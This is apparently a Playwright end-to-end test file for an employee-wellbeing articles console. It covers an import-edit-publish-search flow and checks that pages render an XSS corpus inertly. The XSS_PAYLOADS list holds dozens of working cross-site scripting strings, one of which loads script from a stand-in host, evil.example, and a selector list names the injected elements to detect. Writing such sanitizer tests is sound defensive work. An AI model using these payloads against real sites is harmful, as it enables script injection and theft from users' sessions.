"""Articles in Chromium: the import -> edit -> publish -> search journey, and an XSS
corpus rendered in the console and on the employee page with nothing executing."""
from __future__ import annotations

import re

from playwright.sync_api import expect

from shared.domain import articles

EXAMPLE = articles.EXAMPLE_ARTICLE


def test_import_edit_publish_and_find_by_search(page, live_server, tenant, console_login):
    console_login(tenant.admin_email)
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Articles").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Articles")
    page.get_by_role("link", name="Import articles").click()
    page.get_by_label("Article files").set_input_files(str(EXAMPLE))
    page.get_by_role("button", name="Import").click()

    report = page.get_by_test_id("import-report")
    expect(report).to_contain_text("partner-article-example.txt")
    expect(report).to_contain_text("proposed: no title line found")
    expect(page.get_by_test_id("report-partner")).to_have_text("Synergy Health Ltd (new partner)")
    expect(page.get_by_test_id("report-topics")).to_contain_text("exercise")
    expect(page.get_by_test_id("report-topics")).to_contain_text("mental health")
    expect(report).to_contain_text("a couple work out together")
    expect(report).to_contain_text("Learn more")

    report.get_by_role("link", name="Edit it").click()
    expect(page.get_by_test_id("preview")).to_contain_text("a couple work out together")  # live preview rendered
    page.get_by_label("Title").fill("Muscles and the mind")
    page.get_by_label("Body", exact=True).press("End")
    page.get_by_label("Body", exact=True).type("\n<p>Edited in the browser.</p>")
    expect(page.get_by_test_id("preview")).to_contain_text("Edited in the browser.")
    page.get_by_role("button", name="Save").click()

    expect(page.get_by_test_id("article-title")).to_have_text("Muscles and the mind")
    expect(page.get_by_test_id("disclosure")).to_have_text("Written by Synergy Health Ltd. Shared by Acme Ltd from a wellbeing partner.")
    page.get_by_role("button", name="Send for review").click()
    expect(page.get_by_test_id("article-status")).to_have_text("review")
    page.get_by_role("button", name="Publish").click()
    expect(page.get_by_test_id("article-status")).to_have_text("published")

    employee_url = page.get_by_test_id("employee-link").get_attribute("href")
    page.get_by_role("link", name="All articles").click()
    page.get_by_role("searchbox", name="Search").fill("myokines brain")
    page.get_by_label("Status").select_option("published")
    page.get_by_role("button", name="Search").click()
    results = page.get_by_test_id("article-results")
    expect(results.get_by_role("link", name="Muscles and the mind")).to_be_visible()
    expect(results).to_contain_text("1 article")

    # The employee page (signed link, no login) in a fresh browser context.
    path = re.sub(r"^https?://[^/]+", "", employee_url)
    context = page.context.browser.new_context()
    try:
        reader = context.new_page()
        reader.goto(f"{live_server}{path}")
        expect(reader.get_by_test_id("article-title")).to_have_text("Muscles and the mind")
        expect(reader.get_by_test_id("disclosure")).to_have_text("Written by Synergy Health Ltd. Shared by Acme Ltd from a wellbeing partner.")
        expect(reader.get_by_test_id("partner-credit")).to_contain_text("Synergy Health is the brains")
    finally:
        context.close()


XSS_PAYLOADS = [
    "<script>alert('s1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('i1')>",
    '<img src="x" onerror="window.__xss=1">',
    "<svg onload=alert('svg1')>",
    "<svg><script>alert('svg2')</script></svg>",
    "<body onload=alert('body')>",
    '<iframe src="javascript:alert(\'if1\')"></iframe>',
    '<iframe srcdoc="<script>parent.alert(\'if2\')</script>"></iframe>',
    '<a href="javascript:alert(\'a1\')" id="js-link">click</a>',
    '<a href="JaVaScRiPt:alert(\'a2\')">click2</a>',
    '<a href="&#106;avascript:alert(\'a3\')">entity</a>',
    '<a href="  javascript:alert(\'a4\')">spaces</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="javascript:alert(\'o1\')"></object>',
    "<embed src=\"javascript:alert('e1')\">",
    "<details open ontoggle=alert('d1')><summary>x</summary></details>",
    "<input autofocus onfocus=alert('in1')>",
    "<marquee onstart=alert('m1')>x</marquee>",
    "<video><source onerror=alert('v1')></video>",
    "<audio src=x onerror=alert('au1')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mx')>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">overlay</p>',
    '<div style="background:url(javascript:alert(\'css\'))">css</div>',
    "<link rel=stylesheet href=\"javascript:alert('l1')\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\">",
    "<base href=\"javascript:alert('base')//\">",
    "<form action=\"javascript:alert('f1')\"><button>go</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('ns')>\"></noscript>",
    "<scr<script>ipt>alert('split')</scr</script>ipt>",
    "\"><script>alert('break')</script>",
    "<p onmouseover=\"alert('hover')\">hover</p>",
    "<template><script>alert('tpl')</script></template>",
    "<a href=\"vbscript:msgbox('vb')\">vb</a>",
    '<span class="visually-hidden">hidden by class</span><p hidden>hidden attr</p>',
    "<img src=\"https://127.0.0.1:1/x.png\" onload=\"alert('onload')\">",
]

INJECTED = (
    "script:not([src]), script[src*='evil'], iframe, object, embed, svg, math, style, link, meta, base, form, input, button, "
    "video, audio, marquee, template, noscript, details, "
    "[onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle], [onstart], [style], [srcdoc], [class], [hidden], "
    "a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i], img[src^='data' i]"
)


def _seed_hostile_article(db, tenant):  # noqa: ANN001
    corpus = "\n".join(XSS_PAYLOADS)
    with db.session(tenant.org_id) as session:
        partner = articles.create_partner(session, None, {"name": "<img src=x onerror=alert('pn')>", "bio": "<script>alert('bio')</script>"})
        html_article = articles.create_article(
            session,
            None,
            {
                "title": "<script>alert('title')</script>",
                "summary": "<img src=x onerror=alert('summary')>",
                "body": f"<p>Safe paragraph.</p>{corpus}",
                "format": "html",
                "partner_id": partner.id,
            },
        )
        markdown_article = articles.create_article(
            session, None, {"title": "Markdown corpus", "body": "[x](javascript:alert('md'))\n\n" + corpus, "format": "markdown"}
        )
        for article in (html_article, markdown_article):
            articles.transition(session, None, article.id, "submit")
            articles.transition(session, None, article.id, "publish")
        return html_article.id, markdown_article.id


def _assert_inert(page, dialogs, where):  # noqa: ANN001
    page.wait_for_timeout(300)  # let any onload/onerror/autofocus handler fire
    assert dialogs == [], f"{where}: a dialog fired: {dialogs}"
    assert page.evaluate("() => window.__xss === undefined"), f"{where}: injected script ran"
    injected = page.evaluate(
        "(sel) => Array.from(document.querySelectorAll('[data-testid=article-body] ' + sel.split(', ').join(', [data-testid=article-body] '))).map(e => e.outerHTML)",
        INJECTED,
    )
    assert injected == [], f"{where}: injected elements in the article body: {injected}"
    inline_scripts = page.evaluate("() => Array.from(document.scripts).filter(s => !s.src || !s.src.startsWith(location.origin + '/console/static/')).length")
    assert inline_scripts == 0, f"{where}: a script other than the console's own is in the page"
    assert page.get_by_test_id("article-body").is_visible()


def test_xss_corpus_is_inert_in_console_and_employee_pages(page, live_server, db, tenant, settings, console_login):
    assert len(XSS_PAYLOADS) >= 30
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    html_id, markdown_id = _seed_hostile_article(db, tenant)
    console_login(tenant.admin_email)

    for article_id in (html_id, markdown_id):
        page.goto(f"{live_server}/console/articles/{article_id}")
        expect(page.get_by_test_id("article-body")).to_be_visible()
        _assert_inert(page, dialogs, f"console article {article_id}")

        page.goto(f"{live_server}/console/articles/{article_id}/edit")
        expect(page.locator("#preview-meta")).to_contain_text("min read")  # live preview came back from the server
        page.evaluate("() => document.getElementById('preview').setAttribute('data-testid', 'article-body')")
        _assert_inert(page, dialogs, f"editor preview {article_id}")

        page.goto(f"{live_server}/console/articles/{article_id}/history")
        page.locator("details").first.evaluate("(d) => d.open = true")
        page.wait_for_timeout(300)
        assert dialogs == [] and page.evaluate("() => window.__xss === undefined")

        token = articles.article_link_token(settings.secret_key, tenant.org_id, article_id)
        page.goto(f"{live_server}/a/{token}")
        _assert_inert(page, dialogs, f"employee page {article_id}")

    page.goto(f"{live_server}/console/articles/{html_id}")
    expect(page.get_by_test_id("article-title")).to_have_text("<script>alert('title')</script>")  # shown as text
    expect(page.get_by_test_id("article-body")).to_contain_text("Safe paragraph.")
    page.goto(f"{live_server}/console/articles")
    page.goto(f"{live_server}/console/partners")
    page.wait_for_timeout(200)
    assert dialogs == [] and page.evaluate("() => window.__xss === undefined")
